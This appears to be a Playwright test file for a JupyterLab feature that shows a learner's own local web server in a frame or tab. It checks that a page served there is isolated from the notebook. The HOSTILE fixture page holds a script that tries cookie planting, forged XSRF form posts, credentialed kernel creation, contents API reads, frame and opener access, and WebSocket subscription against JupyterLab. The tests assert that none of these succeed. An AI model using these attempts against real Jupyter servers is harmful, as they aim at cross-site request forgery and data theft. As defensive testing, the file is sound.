"""A visit to a web server of the learner's own, in a frame and in a tab, straight and through JupyterLab's server: the page is seen, and reaches nothing of the notebook's."""

from __future__ import annotations

import contextlib
import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Frame, Locator, Page, expect

from tests.support.browsing import Lab, Notebook, barriers, overflowing, picture, reopen, run_program, tab_to
from tests.support.waiting import eventually

HOSTILE = """<!doctype html><html lang="en"><title>hostile</title><h1>Free cake</h1><img src="picture.svg" alt="a cake">
<iframe name="nowhere" hidden></iframe>
<form id="form" method="post" target="nowhere"><input name="type" value="directory"></form>
<script>
const lab = %r, port = %r;
const page = (url) => fetch(url, { credentials: "include" }).then((answer) => answer.text());
const ATTEMPTS = {
  parent: () => parent !== self && parent.document.title,
  top: () => top !== self && top.document.title,
  element: () => frameElement && frameElement.ownerDocument.title,
  opener: () => opener && "an opener",
  cookie: () => document.cookie,
  planted: () => ((document.cookie = "_xsrf=planted; path=/"), top !== self && top.document.cookie),
  storage: () => parent.localStorage.length,
  navigation: () => top !== self && ((top.location = location.href + "taken"), "it goes"),
  popup: () => open(lab + "lab")?.document.title,
  worker: async () => (await navigator.serviceWorker.register(lab + "worker.js")).scope,
  contents: () => page(lab + "api/contents"),
  door: () => page(lab + "helpers/visit/" + port),
  kernel: () => fetch(lab + "api/kernels", { method: "POST", credentials: "include", body: "{}" }).then((answer) => answer.text()),
  blind: () => fetch(lab + "api/kernels", { method: "POST", credentials: "include", mode: "no-cors", body: "{}" }).then(() => ""),
  form: () => ((form.action = lab + "api/contents?_xsrf=planted"), form.submit(), ""),
  socket: () => new Promise((done) => {
    const socket = new WebSocket(lab.replace("http", "ws") + "api/events/subscribe");
    socket.onopen = () => done("it is open");
    socket.onerror = () => done("");
  }),
  alert: () => (parent !== self && alert("hostile"), ""),
};
const reached = {};
(async () => {
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    try {
      reached[name] = (await attempt()) || "";
    } catch (error) {
      reached[name] = "";
    }
  }
  await fetch("report", { method: "POST", body: JSON.stringify(reached) });
})();
</script></html>"""
PICTURE = b"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><circle r='20' cx='20' cy='20'/></svg>"


class Hostile(ThreadingHTTPServer):
    """A server whose page tries to reach JupyterLab; what came of it."""

    daemon_threads = False

    def __init__(self, lab: str) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.page = (HOSTILE % (lab, self.server_address[1])).encode()
        self.reports: list[dict[str, str]] = []
        self.cookies: list[str] = []
        self.connections = 0

    def process_request(self, request: Any, client_address: Any) -> None:
        self.connections += 1
        super().process_request(request, client_address)


class Handler(BaseHTTPRequestHandler):
    server: Hostile
    timeout = 1  # a browser connects once more than it asks, and says nothing there

    def do_GET(self) -> None:
        self.note()
        if self.path.startswith("/picture.svg"):
            self.answer("image/svg+xml", PICTURE)
        else:
            self.answer("text/html; charset=utf-8", self.server.page)

    def do_POST(self) -> None:
        self.note()
        self.server.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer("text/plain", b"")

    def note(self) -> None:
        if "Cookie" in self.headers:
            self.server.cookies.append(self.headers["Cookie"])

    def answer(self, kind: str, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Set-Cookie", "_xsrf=planted; Path=/")
        self.send_header("Clear-Site-Data", '"cookies", "storage"')
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.contextmanager
def hostile(lab: Lab) -> Iterator[Hostile]:
    with Hostile(lab.url) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def visit(notebook: Notebook, cell: int = -1) -> Locator:
    return notebook.cells.nth(cell).get_by_role("group", name="visit to")


def through(shown: Locator) -> Locator:
    return shown.get_by_role("checkbox", name="through JupyterLab")


def content(shown: Locator) -> Frame:
    """What is loaded in the frame of a visit."""
    found = shown.locator("iframe").element_handle().content_frame()
    assert found
    return found


def its_own(page: Page, lab: Lab) -> dict[str, Any]:
    """What nobody but the learner may change: of JupyterLab's, and of what the browser keeps for it."""
    return {
        "address": page.url,
        "cookies": sorted((each["name"], each["value"]) for each in page.context.cookies(lab.url)),
        "files": [each["path"] for each in lab.ask("GET", "api/contents")["content"]],
        "kernels": len(lab.ask("GET", "api/kernels")),
        "pages": len(page.context.pages),
    }


@pytest.mark.parametrize("is_through", [False, True], ids=["straight", "through JupyterLab"])
def test_a_hostile_page_reaches_nothing(is_through: bool, page: Page, lab: Lab) -> None:
    dialogs: list[str] = []
    page.once("dialog", lambda dialog: dialogs.append(dialog.message))
    with hostile(lab) as server:
        port = server.server_address[1]
        notebook = run_program(page, lab, "hostile-page", f"helpers.visit(('127.0.0.1', {port}))")
        shown = visit(notebook)
        expect(shown.get_by_role("button", name="Open here")).to_be_enabled()
        through(shown).set_checked(is_through)
        assert server.connections == 0  # nobody comes before somebody asks
        assert (
            page.request.get(f"{lab.url}proxy/{port}/").status == 404
        )  # jupyter-server-proxy's way, if it is there: to JupyterLab's own site
        before = its_own(page, lab)

        shown.get_by_role("button", name="Open here").click()
        expect(shown.frame_locator("iframe").get_by_role("heading")).to_have_text("Free cake")
        assert eventually(lambda: server.reports, 20)
        frame = content(shown)
        assert (its_own(page, lab), dialogs) == (before, [])

        with page.context.expect_page() as opened:
            shown.get_by_role("link").click()
        tab = opened.value
        assert eventually(lambda: len(server.reports) == 2, 20)
        loaded = tab.get_by_alt_text("a cake").evaluate("image => image.complete && image.naturalWidth")
        origins = [each.evaluate("self.origin") for each in (frame, tab)]
        for other in page.context.pages:  # a tab of its own may open others, which it cannot look into either
            if other is not page:
                other.close()
        assert its_own(page, lab) == before
    assert origins == (["null"] * 2 if is_through else [f"http://127.0.0.1:{port}"] * 2)
    assert loaded == 40
    assert [{name: what for name, what in report.items() if what} for report in server.reports] == [{}, {}]
    assert set(server.cookies) <= (set() if is_through else {"_xsrf=planted"})  # its own
    page.context.clear_cookies(domain="127.0.0.1")


SERVER = r"""
def handle(conn, addr):
    if b' /next ' in conn.recv(65536):
        conn.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n<h1>The next one')
    else:
        conn.sendall(b'HTTP/1.1 302 Found\r\nLocation: /next\r\nContent-Length: 0\r\n\r\n')
server = helpers.Server(handle).start()
helpers.visit(server.address)
"""

LISTENS = "import socket\nlistener = socket.create_server(('127.0.0.1', 0))\nhelpers.visit(listener.getsockname())"
ACCEPTS = r"""
said = b''
while not said:  # Chromium's first connection says nothing
    conn, addr = listener.accept()
    conn.settimeout(1)
    try:
        said = conn.recv(65536)
    except TimeoutError:
        pass
print(said[:3])
conn.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n<h1>Hello')
"""


def test_a_browser_that_is_elsewhere_is_sent_through_jupyterlab(fresh_page: Page, lab: Lab) -> None:
    """As through a tunnel, or out of a container: JupyterLab is at localhost, and nothing else of its computer is."""
    fresh_page.route(re.compile(r"^http://127\.0\.0\.1:"), lambda route: route.abort())
    notebook = run_program(fresh_page, lab, "elsewhere", SERVER)
    shown = visit(notebook)
    expect(through(shown)).to_be_checked()
    expect(shown.get_by_role("status")).to_contain_text("write picture.png, not /picture.png")
    shown.get_by_role("button", name="Open here").click()
    expect(shown.frame_locator("iframe").get_by_role("heading")).to_have_text("The next one")


def test_it_is_opened_by_keyboard_and_a_sentence_says_when_nobody_is_there(page: Page, lab: Lab) -> None:
    notebook = run_program(page, lab, "visit", SERVER, "server.stop()", "server.start(); print(len(server.log))")
    shown = visit(notebook, 1)
    frame = shown.locator("iframe")
    opens = shown.get_by_role("button", name="Open here")
    notebook.run(2)
    opens.click()
    expect(shown.get_by_role("status")).to_contain_text("Nobody listens at")
    expect(frame).to_have_count(0)

    port = shown.get_by_role("link").get_attribute("href")
    assert port
    notebook.run(1)  # the server starts again, elsewhere
    expect(opens).to_be_enabled()
    shown.get_by_role("link").focus()
    tab_to(page, opens)
    page.keyboard.press("Enter")
    expect(frame).to_have_attribute("title", re.compile("^page at http://127.0.0.1:"))
    expect(shown.frame_locator("iframe").get_by_role("heading")).to_have_text("The next one")
    for theme in "Dark", "Light":
        notebook.theme(theme)
        notebook.unroll(wide=480)
        picture(page, f"visit-{theme.lower()}.png")
        assert (barriers(page, ".visit"), overflowing(page)) == ([], [])
    tab_to(page, shown.get_by_role("button", name="Close"))
    page.keyboard.press("Enter")
    expect(frame).to_have_count(0)
    expect(opens).to_be_focused()


def test_what_was_saved_shows_the_address_and_opens_nothing(page: Page, lab: Lab) -> None:
    notebook = run_program(page, lab, "stored-visit", SERVER)
    expect(visit(notebook).get_by_role("button", name="Open here")).to_be_enabled()
    notebook.save()
    stored = visit(reopen(page, lab, "notebooks/stored-visit.ipynb"))
    expect(stored).to_contain_text("to be opened in a tab of its own, or here")
    expect(stored.locator("a, iframe, button")).to_have_count(0)


def test_a_cell_that_waits_for_the_browser_gets_it(page: Page, lab: Lab) -> None:
    """The kernel is busy with the very server that is to be visited."""
    notebook = run_program(page, lab, "waits", LISTENS, "pass")
    notebook.cells.nth(2).locator(".cm-content").fill(ACCEPTS)
    page.keyboard.press("Shift+Enter")
    expect(notebook.cells.nth(2).locator(".jp-InputPrompt")).to_have_text("[*]:")
    shown = visit(notebook, 1)
    shown.get_by_role("button", name="Open here").click()
    expect(shown.frame_locator("iframe").get_by_role("heading")).to_have_text("Hello")
    expect(notebook.cells.nth(2).locator(".jp-OutputArea-output")).to_have_text("b'GET'")
